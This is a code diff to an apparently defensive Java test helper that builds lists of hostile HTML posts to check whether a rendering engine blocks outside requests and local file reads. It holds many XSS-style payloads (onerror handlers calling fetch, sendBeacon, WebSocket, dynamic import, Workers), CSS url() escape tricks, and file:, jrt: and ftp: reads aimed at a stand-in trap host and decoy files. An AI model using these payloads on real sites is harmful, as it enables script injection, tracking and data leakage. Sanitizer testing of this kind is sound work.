@@ -11,10 +11,22 @@ final class HostilePosts {
 
   private HostilePosts() {}
 
-  /** Every payload in every place it fits; {@code trap} is a web address, {@code decoy} a file. */
-  static List<String> all(String trap, String decoy) {
+  /**
+   * What lies outside, as addresses.
+   *
+   * @param web a web server
+   * @param socket a port for a WebSocket
+   * @param decoy a picture outside the site
+   * @param archive an archive outside the site that holds {@code decoy.png}, {@code decoy.css} and
+   *     {@code decoy.html}; the latter two ask the web server
+   */
+  record Outside(String web, String socket, String decoy, String archive) {}
+
+  /** Every payload in every place it fits. */
+  static List<String> all(Outside outside) {
+    String trap = outside.web();
     List<String> posts = new ArrayList<>();
-    for (String payload : payloads(trap, decoy)) {
+    for (String payload : payloads(trap, outside.decoy())) {
       posts.add(payload + "\n");
       posts.add("text before " + payload + " and behind\n");
       posts.add("> quoted\n>\n> " + payload + "\n");
@@ -55,6 +67,10 @@ final class HostilePosts {
         List.of(
             "<meta http-equiv=refresh content=\"0;url=" + trap + "/refresh\">",
             "<img src=x onerror=\"location.href='" + trap + "/location'\">",
+            "<form action=\"" + trap + "/button\"><button>x</button></form>",
+            "<a href=\"" + trap + "/click\">x</a>",
+            "<img src=x onerror=\"window.open('" + trap + "/window')\">",
+            "<a href=\"" + trap + "/tab\" target=_blank>x</a>",
             "<form id=f action=\""
                 + trap
                 + "/form\"></form>"
@@ -67,6 +83,94 @@ final class HostilePosts {
       posts.add("text " + payload + "\n");
     }
     return posts;
+  }
+
+  /** Every way out and to files that the engine may know, each once. */
+  static List<String> ways(Outside outside) {
+    List<String> posts = loads(outside.web());
+    posts.addAll(pastTheScheme(outside));
+    return posts;
+  }
+
+  /** Ways to have something loaded; each asks for an address of its own. */
+  private static List<String> loads(String trap) {
+    List<String> posts = new ArrayList<>();
+    for (String load :
+        List.of(
+            "<link rel=preload as=image href=\"$/preload.png\">",
+            "<link rel=prefetch href=\"$/prefetch\">",
+            "<link rel=modulepreload href=\"$/modulepreload.js\">",
+            "<link rel=dns-prefetch href=\"$\"><link rel=preconnect href=\"$\">",
+            "<link rel=icon href=\"$/icon.png\"><link rel=manifest href=\"$/manifest\">",
+            "<img srcset=\"$/srcset.png 1x\">",
+            "<img src=x onerror=\"new Image().srcset='$/late-srcset.png 2x'\">",
+            "<svg><use xlink:href=\"$/use.svg#a\"/><use href=\"$/use.svg#b\"/></svg>",
+            "<svg><image xlink:href=\"$/svg-image.png\"/></svg>",
+            "<svg><filter><feImage href=\"$/feimage.png\"/></filter></svg>",
+            "<style>@import url($/import.css);</style>",
+            "<style>@\\69mport '$/escaped.css';</style>",
+            "<p style=\"content:url($/content.png)\">x</p>",
+            "<p style=\"cursor:url($/cursor.png),auto\">x</p>",
+            "<p style=\"background:image-set('$/image-set.png' 1x)\">x</p>",
+            "<p style=\"background:-webkit-image-set(url($/webkit-set.png) 1x)\">x</p>",
+            "<p style=\"-webkit-mask:url($/mask.png)\">x</p>",
+            "<p style=\"border-image:url($/border.png) 1\">x</p>",
+            "<p style=\"shape-outside:url($/shape.png);float:left\">x</p>",
+            "<p style=\"background:\\75rl($/escaped.png)\">x</p>",
+            "<p style=\"background:u/**/rl($/broken.png)\">x</p>",
+            "<p style=\"--a:url($/variable.png);background:var(--a)\">x</p>",
+            "<image src=\"$/image.png\">",
+            "<iframe src=\"data:text/html,<img src=$/data-frame.png>\"></iframe>",
+            "<iframe srcdoc=\"<img src=$/srcdoc.png>\"></iframe>",
+            "<iframe src=\"about:blank\" onload=\"this.contentWindow.parent."
+                + RUN
+                + "\"></iframe>",
+            "<img src=x onerror=\"var i=document.createElement('iframe');"
+                + "document.body.appendChild(i);i.contentWindow.eval('parent."
+                + RUN
+                + "')\">",
+            "<img src=x onerror=\"var i=document.createElement('iframe');"
+                + "i.src=URL.createObjectURL(new Blob(['<img src=$/blob.png>'],{type:'text/html'}));"
+                + "document.body.appendChild(i)\">",
+            "<img src=x onerror=\"import('$/module.js')\">",
+            "<img src=x onerror=\"new Worker('$/worker.js')\">",
+            "<video><track default src=\"$/track.vtt\"></video>",
+            "<a href=\"$/download\" download=x>x</a>",
+            "<a href=\"$/blank\" target=_blank>x</a>",
+            "<object type=image/png data=\"$/object-image\"></object>",
+            "<embed type=image/png src=\"$/embed-image\">",
+            "<object data=\"data:text/html,<img src=$/data-object.png>\"></object>",
+            "<applet code=\"$/applet\"></applet><bgsound src=\"$/bgsound\">",
+            "<frameset><frame src=\"$/frame\"></frameset>")) {
+      posts.add(load.replace("$", trap));
+    }
+    return posts;
+  }
+
+  /** Ways to files and to the network that neither the web's schemes nor ours stand on. */
+  private static List<String> pastTheScheme(Outside outside) {
+    List<String> posts = new ArrayList<>();
+    posts.addAll(files(outside));
+    posts.addAll(reads(outside.archive() + "!/"));
+    posts.add("<img src=\"jrt:/java.base/module-info.class\">");
+    posts.add("<img src=\"" + outside.web().replace("http:", "ftp:") + "/ftp.png\">");
+    posts.add("<img src=\"" + outside.web().replace("http:", "file:") + "/file-host.png\">");
+    posts.add("<img src=x onerror=\"new WebSocket('" + outside.socket() + "/s')\">");
+    return posts;
+  }
+
+  /** Ways to read what lies outside the site by its {@code file:} address. */
+  static List<String> files(Outside outside) {
+    return reads(outside.decoy().substring(0, outside.decoy().lastIndexOf('/') + 1));
+  }
+
+  private static List<String> reads(String from) {
+    return List.of(
+        "<img src=\"" + from + "decoy.png\">",
+        "<link rel=stylesheet href=\"" + from + "decoy.css\">",
+        "<iframe src=\"" + from + "decoy.html\"></iframe>",
+        "<object data=\"" + from + "decoy.html\"></object>",
+        "<img src=x onerror=\"fetch('" + from + "decoy.html').then(x => " + RUN + ")\">");
   }
 
   private static List<String> words(String trap) {
@@ -95,7 +199,6 @@ final class HostilePosts {
         "<img src=\"/link/sub/../" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
         "<img src=x onerror=\"fetch('" + trap + "/fetch')\">",
         "<img src=x onerror=\"navigator.sendBeacon('" + trap + "/beacon')\">",
-        "<img src=x onerror=\"new WebSocket('" + trap.replace("http", "ws") + "/socket')\">",
         "<img src=x onerror=\"var x=new XMLHttpRequest();x.open('GET','"
             + trap
             + "/x');x.send()\">",
